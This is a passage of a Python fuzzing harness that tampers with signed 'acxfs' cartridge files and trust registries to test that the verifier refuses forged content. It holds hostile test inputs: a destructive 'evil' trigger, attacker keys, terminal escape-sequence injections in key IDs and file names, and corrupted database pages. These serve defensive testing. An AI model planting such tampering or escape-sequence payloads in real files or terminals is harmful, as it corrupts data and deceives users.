        table = ch.choice(["sqlar", "objects", "signatures", "cartridge", "acx_skill"])
        how = ch.choice(["view", "trigger", "extra-column", "generated-column", "drop-column",
                         "writable-schema", "index", "rename-column"])
        try:
            if how == "view":
                conn.executescript(f"ALTER TABLE {table} RENAME TO {table}_real;"
                                   f"CREATE VIEW {table} AS SELECT * FROM {table}_real;")
            elif how == "trigger":
                conn.execute(f"CREATE TRIGGER evil AFTER UPDATE ON {table} BEGIN "
                             f"DELETE FROM {table}; END")
            elif how == "extra-column":
                conn.execute(f"ALTER TABLE {table} ADD COLUMN extra TEXT DEFAULT 'x'")
            elif how == "generated-column":
                conn.execute(f"ALTER TABLE {table} ADD COLUMN gen TEXT "
                             f"GENERATED ALWAYS AS (hex(randomblob(16))) VIRTUAL")
            elif how == "drop-column":
                col = ch.choice(_columns(conn, table)[1:])
                conn.execute(f"ALTER TABLE {table} DROP COLUMN {col}")
            elif how == "rename-column":
                col = ch.choice(_columns(conn, table))
                conn.execute(f'ALTER TABLE {table} RENAME COLUMN "{col}" TO "{col}_"')
            elif how == "index":
                conn.execute(f"CREATE INDEX evil_idx ON {table}(abs(1) + length(hex(randomblob("
                             f"1000))))")
            else:
                conn.execute("PRAGMA writable_schema=ON")
                (sql,) = conn.execute("SELECT sql FROM sqlite_master WHERE name=?",
                                      (table,)).fetchone()
                conn.execute("UPDATE sqlite_master SET sql=? WHERE name=?",
                             (_flip_text(sql, ch), table))
                conn.execute("PRAGMA writable_schema=OFF")
        except sqlite3.Error as exc:
            return f"schema {how} {table}: refused by sqlite ({exc})"
        return f"schema {how} {table}"


@mutator
def m_header(m: Mutant, ch: Chooser) -> str:
    with contextlib.closing(m.conn()) as conn:
        which = ch.choice(["application_id", "user_version"])
        value = ch.choice([0, -1, 0x41435832, 0x02000100, 0x01FF0000, 0x00000100, 2**31 - 1])
        conn.execute(f"PRAGMA {which}={value}")
        return f"header {which}={value}"


@mutator
def m_meta_edit(m: Mutant, ch: Chooser) -> str:
    """Edit cartridge keys: signed ones (must be refused) and unsigned ones (stay accepted)."""
    with contextlib.closing(m.conn()) as conn:
        keys = [r[0] for r in conn.execute("SELECT key FROM cartridge")]
        key = ch.choice(keys)
        value = ch.choice(["", "changed", "\x1b[31mred", '{"id":"x"}', "io.github.attacker"])
        conn.execute("UPDATE cartridge SET value=? WHERE key=?", (value, key))
        return f"meta_edit {key} := {value!r}"


@mutator
def m_unsigned_fields(m: Mutant, ch: Chooser) -> str:
    """Fields the signature does not cover: mtime, mode, the SAVE zone, attestations, vectors;
    and an equivalent re-encoding of a file (same bytes, other codec). Reads must not change."""
    with contextlib.closing(m.conn()) as conn:
        how = ch.choice(["mtime", "mode", "save-data", "attestation", "recompress"])
        rows = conn.execute("SELECT rowid, name, sz, data FROM sqlar WHERE data IS NOT NULL "
                            "AND sz > 0").fetchall()
        rowid, name, sz, data = ch.choice(rows)
        if how == "mtime":
            value = ch.choice([0, -1, 2**62, 2**63 - 1, -(2**63), 1700000000])
            conn.execute("UPDATE sqlar SET mtime=? WHERE rowid=?", (value, rowid))
        elif how == "mode":
            value = ch.choice([0o100777, 0o4755, 0o104755, 0o777, 0o100000, 0])
            conn.execute("UPDATE sqlar SET mode=? WHERE rowid=?", (value, rowid))
        elif how == "save-data":
            conn.execute("UPDATE sqlar SET data=?, sz=? WHERE name LIKE 'save/%'",
                         (b"overwritten", 11))
        elif how == "attestation":
            conn.execute("INSERT OR REPLACE INTO attestations VALUES ('a1', 'x', NULL, "
                         "'application/json', '{\"evil\":true}', NULL, '2026')")
        else:
            plain = cw.inflate(data, sz)
            codec = ch.choice(["raw", "zlib", "none"])
            conn.execute("UPDATE sqlar SET data=? WHERE rowid=?",
                         (cw.compress(plain, codec), rowid))
            return f"unsigned_fields recompress {name} as {codec}"
        return f"unsigned_fields {how} {name}"


REGISTRY_EDITS = ["generic", "status", "publisher", "dates", "private-key", "duplicate", "keyid",
                  "attacker-pem", "not-json", "proof", "unknown-field", "compromised"]


@mutator
def m_registry(m: Mutant, ch: Chooser) -> str:
    """The trust registry itself, mutated (the cartridge is left intact)."""
    doc = json.loads(json.dumps(m.base.registry))
    entry = doc["keys"][0]
    how = ch.choice(REGISTRY_EDITS)
    text = None
    if how == "generic":
        doc = mutate_json(doc, ch)
    elif how == "status":
        entry["status"] = ch.choice(["revoked", "expired", "ACTIVE", None, ["active"], 1])
        if entry["status"] == "revoked" and ch.integer(0, 1):
            entry["revokedAt"] = ch.choice(["2025-01-01T00:00:00Z", "2027-01-01T00:00:00Z"])
            entry["revocationReason"] = ch.choice(["superseded", "retired", "key-compromise"])
    elif how == "compromised":
        entry["status"] = "revoked"
        entry["revocationReason"] = ch.choice(["key-compromise", {"x": 1}, "other"])
    elif how == "publisher":
        entry["publisherId"] = ch.choice(["io.github.attacker", "", None, 5])
    elif how == "dates":
        field = ch.choice(["notBefore", "notAfter", "revokedAt"])
        entry[field] = ch.choice(["2000-01-01T00:00:00Z", "2027-01-01", "soon", 0, None,
                                  "9999-12-31T23:59:59+14:00", "0001-01-01T00:00:00-14:00"])
    elif how == "private-key":
        entry["publicKeyPem"] = cw.private_pem(bytes(32))
    elif how == "duplicate":
        doc["keys"].append(json.loads(json.dumps(entry)))
    elif how == "keyid":
        entry["keyid"] = ch.choice([ATTACKER.keyid, entry["keyid"].upper(), "", 5])
    elif how == "attacker-pem":
        entry["publicKeyPem"] = ATTACKER.public_pem
    elif how == "proof":
        entry["namespaceProof"] = mutate_json(entry["namespaceProof"], ch)
    elif how == "unknown-field":
        entry["comment"] = "x"
    else:
        text = json.dumps(doc)[: ch.integer(0, 200)]
    path = m.workdir / "registry.json"
    path.write_text(text if text is not None else dump_json(doc), encoding="utf-8",
                    errors="surrogatepass")
    m.trust_args = ["--registry", str(path)]
    m.registry_mutated = True
    return f"registry {how}"


MUTATOR_NAMES = tuple(MUTATORS)
# Mutations that leave the file a well-formed SQLite database (safe to stack before others).
_FILE_LEVEL = {"byte_flip", "truncate"}


def make_mutant(base: Base, workdir: Path, ch: Chooser, names: Sequence[str]) -> Mutant:
    """Copy `base` into `workdir` and apply the named mutators in order."""
    workdir.mkdir(parents=True, exist_ok=True)
    path = workdir / "mutant.acx"
    for stale in workdir.glob("mutant.acx*"):
        stale.unlink()
    shutil.copyfile(base.path, path)
    use_registry = base.registry is not None and ch.integer(0, 1) == 1
    if use_registry:
        reg = workdir / "registry.json"
        reg.write_text(json.dumps(base.registry), encoding="utf-8")
        trust = ["--registry", str(reg)]
    else:
        trust = ["--trust-key", str(base.key_file)]
    mutant = Mutant(base, path, workdir, trust)
    ordered = sorted(names, key=lambda n: n in _FILE_LEVEL)  # file-level damage goes last
    for name in ordered:
        try:
            mutant.steps.append(MUTATORS[name](mutant, ch))
        except (sqlite3.Error, ValueError, KeyError, IndexError, TypeError, AttributeError) as exc:
            # an earlier step left nothing this one can edit (unreadable file, odd JSON)
            mutant.steps.append(f"{name}: skipped ({type(exc).__name__}: {exc})"[:200])
    return mutant


def choose_mutators(ch: Chooser) -> list[str]:
    count = ch.choice([1, 1, 1, 2, 3])
    return [ch.choice(MUTATOR_NAMES) for _ in range(count)]


# ============================================================================ the invariant


@dataclasses.dataclass
class Result:
    """The outcome of checking one mutant."""

    steps: list[str]
    shallow: int | None = None
    deep: int | None = None
    verdict: str = ""
    reads_ok: int = 0
    reads_failed: int = 0
    violations: list[str] = dataclasses.field(default_factory=list)
    inconsistencies: list[str] = dataclasses.field(default_factory=list)
    known: list[str] = dataclasses.field(default_factory=list)  # regressed fixed-bug ids
    seconds: float = 0.0

    @property
    def outcome(self) -> str:
        if self.violations:
            return "VIOLATION"
        if self.shallow == 0:
            return f"accepted (deep {self.deep})"
        return f"refused {self.shallow}"


def _check_verdict_run(run: Run, what: str, registry_mutated: bool, result: Result) -> None:
    if run.tb is not None:
        result.violations.append(f"{what}: traceback: {run.tb.strip().splitlines()[-1]}")
        result.violations.append("TRACEBACK " + run.tb)
        return
    allowed = ALLOWED_CODES | ({2} if registry_mutated else set())
    if run.code not in allowed:
        result.violations.append(f"{what}: exit {run.code}: {run.err.strip()[:200]}")
        return
    if run.code == 2:
        lines = run.err.strip().splitlines()
        if run.out or len(lines) != 1 or "trust registry" not in lines[0]:
            result.violations.append(f"{what}: exit 2 without one registry error line: "
                                     f"{run.err.strip()[:200]}")
        return
    first = run.out.splitlines()[0] if run.out else ""
    if not VERDICT_RE.match(first):
        result.violations.append(f"{what}: no verdict line: {run.out[:200]!r}")
    if CONTROL_RE.search(run.out) or CONTROL_RE.search(run.err):
        result.violations.append(f"{what}: control characters from the file reach the terminal:"
                                 f" {(run.out + run.err)[:200]!r}")


def check_mutant(mutant: Mutant) -> Result:
    """Apply the invariant of the module docstring to one mutant (never raises for acxfs)."""
    started = time.monotonic()
    result = Result(list(mutant.steps))
    target = str(mutant.path)
    shallow = run_main(["verify", target, *mutant.trust_args])
    deep = run_main(["verify", "--deep", target, *mutant.trust_args])
    _check_verdict_run(shallow, "verify", mutant.registry_mutated, result)
    _check_verdict_run(deep, "verify --deep", mutant.registry_mutated, result)
    result.shallow, result.deep = shallow.code, deep.code
    result.verdict = deep.out.splitlines()[0] if deep.out else deep.err.strip()[:120]
    if shallow.code is not None and deep.code is not None and shallow.code != deep.code and not (
        shallow.code in (0, 4) and deep.code == 5  # deep finds content edits of signed files
    ):
        result.inconsistencies.append(f"verify {shallow.code} but --deep {deep.code}")
    inspect = run_main(["inspect", target, *mutant.trust_args])
    _check_verdict_run(inspect, "inspect", mutant.registry_mutated, result)
    if shallow.code == 0 and shallow.tb is None:
        _check_reads(mutant, result, deep_ok=deep.code == 0)
    result.seconds = time.monotonic() - started
    return result


def _accepted_paths(mutant: Mutant) -> list[str] | None:
    from acxfs.loader import open_source
    from acxfs.trust import load_trust

    args = mutant.trust_args
    registries = [args[i + 1] for i, a in enumerate(args) if a == "--registry"]
    keys = [args[i + 1] for i, a in enumerate(args) if a == "--trust-key"]
    try:
        source, _ = open_source(str(mutant.path), load_trust(registries, keys))
    except Exception:
        return None
    try:
        return [e.path for e in source.tree.files()]
    finally:
        source.close()


def _check_reads(mutant: Mutant, result: Result, deep_ok: bool) -> None:
    paths = _accepted_paths(mutant)
    if paths is None:
        result.inconsistencies.append("verify accepted but open_source refused")
        return
    signed = mutant.base.files
    for path in paths:
        if not path.startswith("rom/"):
            result.violations.append(f"{path}: a non-ROM path is listed in the verified tree")
        run = run_main(["cat", str(mutant.path), path, *mutant.trust_args])
        if run.tb is not None:
            result.violations.append(f"cat {path}: traceback: {run.tb.strip().splitlines()[-1]}")
            result.violations.append("TRACEBACK " + run.tb)
            continue
        if run.code == 0:
            if path not in signed or run.raw != signed[path]:
                result.violations.append(
                    f"cat {path}: served {len(run.raw)} bytes that are not the signed bytes")
            else:
                result.reads_ok += 1
        elif run.code == 5:
            result.reads_failed += 1
            if run.raw:
                result.violations.append(f"cat {path}: exit 5 after {len(run.raw)} bytes")
            if deep_ok:
                result.inconsistencies.append(f"--deep accepted but cat {path} failed")
        else:
            result.violations.append(f"cat {path}: exit {run.code}: {run.err.strip()[:160]}")
    inspect = run_main(["inspect", "--json", str(mutant.path), *mutant.trust_args])
    if inspect.tb is not None:
        result.violations.append(f"inspect: traceback: {inspect.tb.strip().splitlines()[-1]}")
        return
    try:
        shown = json.loads(inspect.out).get("signedMeta", {})
    except ValueError:
        result.violations.append(f"inspect --json printed no JSON: {inspect.out[:100]!r}")
        return
    wrong = {k: v for k, v in shown.items() if mutant.base.signed_meta.get(k) != v}
    if wrong:
        result.violations.append(f"inspect shows unsigned values as signed facts: {wrong}")


# ============================================================================ fixed bugs
# acxfs bugs this fuzzer found, all fixed in commit af1bb63, each with its minimal reproducer
# (True when the bug is back). They run once per run as regression checks (and as tests in
# tests/test_fuzz.py); a violation matching a regressed one is labelled with it for
# diagnosis, and still counts.


@dataclasses.dataclass(frozen=True)
class FixedBug:
    ident: str
    summary: str  # what was wrong, and where it was fixed
    matches: Callable[[str], bool]  # does a fuzz violation look like this bug?
    reproduce: Callable[[Path], bool]  # True when the bug is back


def repro_blob_read_error(workdir: Path) -> bool:
    """The file changes between the check and the read (a live fault, or a TOCTOU race): a
    broken overflow page under a BLOB. `acxfs cat` must exit 5 (or 6), never trace back."""
    import acxfs.loader as loader

    path = workdir / "overflow.acx"
    payload = random.Random(7).randbytes(300_000)
    cw.build_cartridge(path, {"rom/big.bin": payload, "rom/a.txt": b"a"}, signer=SIGNER,
                       deflate="none")
    key = workdir / "overflow.pub.pem"
    key.write_text(SIGNER.public_pem)
    real_check = getattr(loader, "check_cartridge")  # noqa: B009 - patched below

    def check_then_corrupt(*args: Any, **kwargs: Any) -> Any:
        report = real_check(*args, **kwargs)
        corrupt_overflow_page(path, payload)
        return report

    setattr(loader, "check_cartridge", check_then_corrupt)  # noqa: B010
    try:
        run = run_main(["cat", str(path), "rom/big.bin", "--trust-key", str(key)])
    finally:
        setattr(loader, "check_cartridge", real_check)  # noqa: B010
    return run.tb is not None


def corrupt_overflow_page(path: Path, payload: bytes) -> None:
    """Point the overflow page holding payload[100000:] at a page beyond the end of the file."""
    data = bytearray(path.read_bytes())
    page = data.find(payload[100_000:100_064]) // 4096 * 4096
    data[page : page + 4] = b"\xff\xff\xff\x00"
    with open(path, "r+b") as handle:  # in place: the same inode, as a live fault would be
        handle.write(bytes(data))


def repro_duplicate_meta(workdir: Path) -> bool:
    """A second `cartridge` row for a signed key (table without PK): inspect shows it signed."""
    path = workdir / "dupmeta.acx"
    cw.build_cartridge(path, {"rom/a.txt": b"a"}, signer=SIGNER)
    with contextlib.closing(sqlite3.connect(path)) as conn:
        _rebuild_without_pk(conn, "cartridge")
        conn.execute("INSERT INTO cartridge VALUES ('acx.description', 'EVIL')")
        conn.commit()
    key = workdir / "dupmeta.pub.pem"
    key.write_text(SIGNER.public_pem)
    run = run_main(["inspect", "--json", str(path), "--trust-key", str(key)])
    try:
        return bool(json.loads(run.out)["signedMeta"].get("acx.description") == "EVIL")
    except (ValueError, KeyError):
        return False


def repro_registry_unhashable(workdir: Path) -> bool:
    """A registry entry whose status is a list: verify must say the registry is unusable."""
    path = workdir / "reg.acx"
    cw.build_cartridge(path, {"rom/a.txt": b"a"}, signer=SIGNER)
    entry = cw.registry_entry(SIGNER, PUBLISHER)
    entry["status"] = ["active"]
    reg = workdir / "bad-registry.json"
    reg.write_text(cw.registry_json([entry]))
    return run_main(["verify", str(path), "--registry", str(reg)]).tb is not None


def repro_untrusted_text_printed(workdir: Path) -> bool:
    """An unverifiable envelope whose keyid holds a lone surrogate or an escape sequence."""
    path = workdir / "keyid.acx"
    cw.build_cartridge(path, {"rom/a.txt": b"a"}, signer=SIGNER, embed_public_key=False)
    with contextlib.closing(sqlite3.connect(path)) as conn:
        (envelope,) = conn.execute("SELECT envelope FROM signatures").fetchone()
        doc = json.loads(envelope)
        doc["signatures"][0]["keyid"] = "\x1b]0;pwned\x07\ud800"
        conn.execute("UPDATE signatures SET envelope=?", (json.dumps(doc),))
        conn.commit()
    run = run_main(["verify", str(path)])
    return run.tb is not None or bool(CONTROL_RE.search(run.out + run.err))


def repro_unsafe_name_in_verdict(workdir: Path) -> bool:
    """A sqlar name with an escape sequence reaches the verdict line before it is checked."""
    path = workdir / "name.acx"
    cw.build_cartridge(path, {"rom/a.txt": b"a", "rom/\x1b[2Jx": b"b"}, signer=SIGNER,
                       modes={"rom/\x1b[2Jx": 0o120777})
    run = run_main(["verify", str(path)])
    return bool(CONTROL_RE.search(run.out + run.err))


def repro_spill_oserror(workdir: Path) -> bool:
    """No space for the spill file: verify --deep must fail with one line, not a traceback.
    (Simulated with an unwritable spill directory, which fails the same code path.)"""
    path = workdir / "spill.acx"
    cw.build_cartridge(path, {"rom/big.bin": random.Random(3).randbytes(9 * 1024 * 1024)},
                       signer=SIGNER, deflate="none")
    key = workdir / "spill.pub.pem"
    key.write_text(SIGNER.public_pem)
    real = tempfile.TemporaryFile  # acxfs.content calls tempfile.TemporaryFile(dir=spill_dir)

    def full(*args: Any, **kwargs: Any) -> Any:
        raise OSError(28, "No space left on device")

    setattr(tempfile, "TemporaryFile", full)  # noqa: B010
    try:
        run = run_main(["verify", "--deep", str(path), "--trust-key", str(key)])
    finally:
        setattr(tempfile, "TemporaryFile", real)  # noqa: B010
    return run.tb is not None


def repro_schema_name_not_utf8(workdir: Path) -> bool:
    """A table name in sqlite_master that is not UTF-8: SQLite's error message quotes it and
    Python's sqlite3 fails to decode the message with UnicodeDecodeError (not sqlite3.Error)."""
    path = workdir / "schema-name.acx"
    cw.build_cartridge(path, {"rom/a.txt": b"a"}, signer=SIGNER)
    with contextlib.closing(sqlite3.connect(path)) as conn:
        conn.execute("PRAGMA writable_schema=ON")
        conn.execute("UPDATE sqlite_master SET name=CAST(x'6361706162696cff74696573' AS TEXT) "
                     "WHERE name='capabilities'")
        conn.commit()
    return run_main(["verify", str(path)]).tb is not None


FIXED_BUGS = [
    FixedBug("blob-read-error", "sqlite3.DatabaseError while reading a file's BLOB escaped "
             "`cat`/`verify --deep` as a traceback; now a TamperError (acxfs/sources/acx.py "
             "raw_chunks)",
             lambda v: "DatabaseError" in v or "OperationalError" in v, repro_blob_read_error),
    FixedBug("duplicate-meta", "a duplicated cartridge key (table without PK) was shown by "
             "inspect as a signed fact; duplicate cartridge/memory/capability/acx_skill keys "
             "are now malformed (acxfs/sources/acx_file.py _read_sqlar)",
             lambda v: "unsigned values as signed facts" in v, repro_duplicate_meta),
    FixedBug("registry-unhashable", "a registry entry with a list/dict status or "
             "revocationReason raised TypeError; field types are now checked "
             "(acxfs/trust.py parse_registry)",
             lambda v: "TypeError: unhashable" in v, repro_registry_unhashable),
    FixedBug("untrusted-text", "untrusted text (an envelope keyid, a JSON string) was printed "
             "raw; now escaped by acxfs/verdict.py printable",
             lambda v: "UnicodeEncodeError" in v or "control characters" in v,
             repro_untrusted_text_printed),
    FixedBug("unsafe-name-in-verdict", "a sqlar name reached a malformed verdict raw, before "
             "check_path; now repr'd (acxfs/sources/acx_file.py _read_sqlar), and the verdict "
             "line is escaped",
             lambda v: "control characters" in v, repro_unsafe_name_in_verdict),
    FixedBug("schema-name-not-utf8", "a sqlite_master name that is not UTF-8 made SQLite's "
             "error message undecodable (UnicodeDecodeError traceback); now malformed "
             "(acxfs/sources/acx_file.py read_cartridge)",
             lambda v: "UnicodeDecodeError" in v, repro_schema_name_not_utf8),
    FixedBug("spill-oserror", "an OSError while spilling (disk full) escaped cat/verify --deep "
             "as a traceback; now one `acxfs: error:` line, exit 2 (acxfs/content.py "
             "verify_content)",
             lambda v: "OSError" in v and "No space" in v, repro_spill_oserror),
]


def regressed_bugs(workdir: Path) -> dict[str, FixedBug]:
    """The fixed bugs whose reproducer fails again (checked once per run; normally none)."""
    workdir.mkdir(parents=True, exist_ok=True)
    return {bug.ident: bug for bug in FIXED_BUGS if bug.reproduce(workdir)}


live_known_bugs = regressed_bugs  # the name tests/test_fuzz.py uses


def classify(result: Result, regressed: dict[str, FixedBug]) -> None:
    """Label each violation with the regressed fixed bug it matches, if any (result.known)."""
    result.known = []
    for violation in result.violations:
        if violation.startswith("TRACEBACK "):
            continue
        match = next((b.ident for b in regressed.values() if b.matches(violation)), None)
        result.known.append(match or "")


def unknown_violations(result: Result) -> list[str]:
    """The violations that match no regressed fixed bug: a new bug."""
    shown = [v for v in result.violations if not v.startswith("TRACEBACK ")]
    return [v for v, known in zip(shown, result.known, strict=True) if not known]


# ============================================================================ mounting a sample


def check_mount(mutant_path: Path, base: Base, trust_args: list[str],
                workdir: Path) -> tuple[list[str], Counter[str]]:
    """Mount an accepted mutant: each served file equals the signed source or read gives EIO,
    and the daemon stays up and unmounts cleanly. Returns the violations and read counts."""
    import errno

    import mounting

    problems: list[str] = []
    reads: Counter[str] = Counter()
    mountpoint = workdir / "mnt"
    mountpoint.mkdir(parents=True, exist_ok=True)
    try:
        with mounting.mounted(mutant_path, mountpoint, *trust_args) as live:
            for root, _dirs, names in os.walk(mountpoint):
                for name in names:
                    full = Path(root) / name
                    rel = str(full.relative_to(mountpoint))
                    try:
                        data = full.read_bytes()
                    except OSError as exc:
                        reads["EIO" if exc.errno == errno.EIO else "other error"] += 1
                        if exc.errno != errno.EIO:
                            problems.append(f"mount read {rel}: {exc}")
                        continue
                    reads["signed bytes" if base.files.get(rel) == data else "WRONG BYTES"] += 1
                    if base.files.get(rel) != data:
                        problems.append(f"mount served {len(data)} bytes of {rel} that are not "
                                        "the signed bytes")
            if not mounting.pid_alive(live.pid):
                problems.append("the daemon died while serving")
    except mounting.MountFailed as exc:
        problems.append(f"verify accepted but the mount failed: {exc}")
    except AssertionError as exc:
        problems.append(f"unclean unmount: {exc}")
    return problems, reads


# ============================================================================ the worker pool


def _worker(conn: multiprocessing.connection.Connection, bases: list[Base], seed: int,
            workdir: str, memory_limit: int, keep_rate: float) -> None:
    if memory_limit:
        resource.setrlimit(resource.RLIMIT_AS, (memory_limit, memory_limit))
    os.environ["TMPDIR"] = workdir  # spill files of this worker stay in its directory
    tempfile.tempdir = None
    while True:
        try:
            index = conn.recv()
        except EOFError:
            return
        if index is None:
            return
        result, kept = run_one(bases, seed, index, Path(workdir), keep_rate=keep_rate)
        conn.send((index, dataclasses.asdict(result), kept))


def run_one(bases: list[Base], seed: int, index: int, workdir: Path,
            keep: Path | None = None, keep_rate: float = 1.0) -> tuple[Result, str | None]:
    """Build mutant `index` of run `seed` and check it; kept (for mounting or replay) when it
    broke the invariant, or was accepted and falls in the `keep_rate` sample."""
    ch = chooser_for(seed, index)
    base = ch.choice(bases)
    mutant = make_mutant(base, workdir / "m", ch, choose_mutators(ch))
    result = check_mutant(mutant)
    kept = None
    sampled = result.shallow == 0 and random.Random(index).random() < keep_rate
    if keep is not None or sampled or result.violations:
        target = (keep or workdir / "kept") / f"{index}"
        target.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(mutant.path, target / "mutant.acx")
        args = list(mutant.trust_args)
        if mutant.registry_mutated or "--registry" in args:
            shutil.copyfile(args[1], target / "registry.json")
            args[1] = str(target / "registry.json")
        (target / "trust.json").write_text(json.dumps({"base": base.name, "trust": args}))
        kept = str(target)
    return result, kept


class Pool:
    """Worker processes that each check one mutant at a time; a hung worker is killed."""

    def __init__(self, size: int, bases: list[Base], seed: int, workdir: Path,
                 memory_limit: int, keep_rate: float) -> None:
        self.ctx = multiprocessing.get_context("fork")
        self.args = (bases, seed, memory_limit, keep_rate)
        self.workdir = workdir
        self.workers: list[tuple[Any, Any, Path]] = [self._start(i) for i in range(size)]

    def _start(self, slot: int) -> tuple[Any, Any, Path]:
        bases, seed, memory_limit, keep_rate = self.args
        wdir = self.workdir / f"worker-{slot}-{time.monotonic_ns()}"
        wdir.mkdir(parents=True)
        parent, child = self.ctx.Pipe()
        proc = self.ctx.Process(target=_worker, args=(child, bases, seed, str(wdir),
                                                      memory_limit, keep_rate), daemon=True)
        proc.start()
        child.close()
        return proc, parent, wdir

    def run(self, indices: Sequence[int], timeout: float,
            on_result: Callable[[int, dict[str, Any] | None, str | None, str], None]) -> None:
        pending = list(indices)[::-1]
        busy: dict[int, tuple[int, float]] = {}  # slot -> (index, deadline)
        while pending or busy:
            for slot, (_proc, conn, _) in enumerate(self.workers):
                if slot not in busy and pending:
                    index = pending.pop()
                    conn.send(index)
                    busy[slot] = (index, time.monotonic() + timeout)
            conns = {self.workers[s][1]: s for s in busy}
            ready = multiprocessing.connection.wait(list(conns), timeout=0.5)
            for ready_conn in ready:
                slot = conns[ready_conn]
                index, _ = busy.pop(slot)
                try:
                    got_index, result, kept = self.workers[slot][1].recv()
                    on_result(got_index, result, kept, self.workers[slot][2].name)
                except (EOFError, OSError):
                    on_result(index, None, None, "worker died (crash or out of memory)")
                    self._replace(slot)
            now = time.monotonic()
            for slot, (index, deadline) in list(busy.items()):
                if now > deadline:
                    busy.pop(slot)
                    on_result(index, None, None, f"hang: no result after {timeout:.0f} s")
                    self._replace(slot)

    def _replace(self, slot: int) -> None:
        proc, conn, _ = self.workers[slot]
        with contextlib.suppress(ProcessLookupError):
            os.kill(proc.pid, signal.SIGKILL)  # our own worker, by its pid
        proc.join(5)
        conn.close()
        self.workers[slot] = self._start(slot)

    def close(self) -> None:
        for proc, conn, _ in self.workers:
            with contextlib.suppress(OSError):
                conn.send(None)
            proc.join(5)
            if proc.is_alive():
                os.kill(proc.pid, signal.SIGKILL)
                proc.join(5)


# ============================================================================ the command


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter,
                                     epilog="example:\n  python scripts/fuzz.py --count 5000 "
                                     "--seed 1 --json fuzz-summary.json")
    parser.add_argument("--count", type=int, default=1000, help="mutants to check")
    parser.add_argument("--seed", type=int, default=1, help="run seed (mutant i is replayable)")
    parser.add_argument("--workers", type=int, default=max(1, (os.cpu_count() or 2)))
    parser.add_argument("--timeout", type=float, default=60.0, help="seconds per mutant")
    parser.add_argument("--memory-limit-mb", type=int, default=3072,
                        help="address-space limit of each worker (0: none)")
    parser.add_argument("--mount-sample", type=int, default=25,
                        help="mount up to this many accepted mutants (0: none)")
    parser.add_argument("--no-real", action="store_true", help="writer bases only")
    parser.add_argument("--only", type=int, help="check only mutant INDEX (in-process)")
    parser.add_argument("--keep", type=Path, help="with --only: keep the mutant here")
    parser.add_argument("--json", type=Path, help="write the JSON summary here")
    # Accepted for old command lines; a no-op: the known bugs are fixed, none is tolerated.
    parser.add_argument("--tolerate-known", action="store_true", help=argparse.SUPPRESS)
    parser.add_argument("--workdir", type=Path, help="scratch directory (default: a temp dir)")
    args = parser.parse_args(argv)

    scratch = Path(tempfile.mkdtemp(prefix="acxfs-fuzz-", dir=args.workdir))
    for name in ("ACXFS_TRUST_DIR", "XDG_CONFIG_HOME", "XDG_STATE_HOME", "XDG_CACHE_HOME"):
        os.environ[name] = str(scratch / name.lower())
    try:
        return _run(args, scratch)
    finally:
        shutil.rmtree(scratch, ignore_errors=True)


def _run(args: argparse.Namespace, scratch: Path) -> int:
    started = time.monotonic()
    bases = build_bases(scratch / "bases", include_real=not args.no_real)
    regressed = regressed_bugs(scratch / "repro")
    print(f"bases: {', '.join(b.name for b in bases)}")
    print(f"regression checks of the {len(FIXED_BUGS)} fixed bugs: "
          + (f"REGRESSED: {', '.join(regressed)}" if regressed else "all still fixed"))

    if args.only is not None:
        result, kept = run_one(bases, args.seed, args.only, scratch / "only", keep=args.keep)
        classify(result, regressed)
        print(json.dumps(dataclasses.asdict(result), indent=2))
        print(f"kept in {kept}" if kept else "")
        return 1 if result.violations or regressed else 0

    outcomes: Counter[str] = Counter()
    verdicts: Counter[str] = Counter()
    by_mutator: dict[str, Counter[str]] = {}
    violations: list[dict[str, Any]] = []
    inconsistencies: list[dict[str, Any]] = []
    accepted: list[tuple[int, str]] = []
    reads = Counter[str]()
    done = 0

    def on_result(index: int, raw: dict[str, Any] | None, kept: str | None, note: str) -> None:
        nonlocal done
        done += 1
        if raw is None:
            outcomes["VIOLATION"] += 1
            violations.append({"index": index, "violations": [note], "known": [""]})
            return
        result = Result(**{k: v for k, v in raw.items()})
        classify(result, regressed)
        outcomes[result.outcome] += 1
        verdicts[_verdict_key(result.verdict)] += 1
        for step in result.steps:
            by_mutator.setdefault(step.split()[0].rstrip(":"), Counter())[result.outcome] += 1
        reads["ok"] += result.reads_ok
        reads["failed (exit 5)"] += result.reads_failed
        if result.violations:
            violations.append({"index": index, "steps": result.steps,
                               "violations": [v for v in result.violations
                                              if not v.startswith("TRACEBACK ")],
                               "known": result.known,
                               "traceback": next((v[10:] for v in result.violations
                                                  if v.startswith("TRACEBACK ")), None),
                               "kept": kept})
        if result.inconsistencies:
            inconsistencies.append({"index": index, "steps": result.steps,
                                    "inconsistencies": result.inconsistencies})
        if result.shallow == 0 and kept and not result.violations:
            accepted.append((index, kept))
        if done % 500 == 0:
            print(f"  {done}/{args.count} mutants, {time.monotonic() - started:.0f} s",
                  flush=True)

    keep_rate = min(1.0, 5.0 * args.mount_sample / max(1, args.count))
    pool = Pool(args.workers, bases, args.seed, scratch / "work",
                args.memory_limit_mb * 1024 * 1024, keep_rate)
    try:
        pool.run(range(args.count), args.timeout, on_result)
    finally:
        pool.close()
    fuzz_seconds = time.monotonic() - started

    mount_results = _mount_sample(args, accepted, bases, scratch)
    for item in mount_results:
        if item["problems"]:
            outcomes["VIOLATION"] += 1
            violations.append({"index": item["index"], "violations": item["problems"],
                               "known": [""] * len(item["problems"]), "mount": True})

    total_seconds = time.monotonic() - started
    regressed_count = sum(1 for v in violations if all(v["known"]))
    summary = {
        "command": "python scripts/fuzz.py " + " ".join(sys.argv[1:]),
        "seed": args.seed, "count": args.count, "workers": args.workers,
        "bases": [b.name for b in bases],
        "seconds": round(total_seconds, 1), "fuzz_seconds": round(fuzz_seconds, 1),
        "mutants_per_second": round(args.count / fuzz_seconds, 1),
        "outcomes": dict(outcomes.most_common()),
        "verdicts": dict(verdicts.most_common()),
        "by_mutator": {k: dict(v.most_common()) for k, v in sorted(by_mutator.items())},
        "reads": dict(reads),
        "mounted": len(mount_results),
        "mount_clean": sum(1 for m in mount_results if not m["problems"]),
        "mount_reads": dict(sum((Counter(m["reads"]) for m in mount_results), Counter())),
        "violations_total": len(violations),
        "violations_unknown": len(violations) - regressed_count,  # matching no regressed bug
        "regressed_bugs": {b.ident: b.summary for b in regressed.values()},
        "regressed_bug_hits": dict(Counter(k for v in violations for k in v["known"] if k)),
        "inconsistencies": inconsistencies[:50],
        "inconsistencies_total": len(inconsistencies),
        "violations": violations[:200],
    }
    _print_summary(summary)
    if args.json:
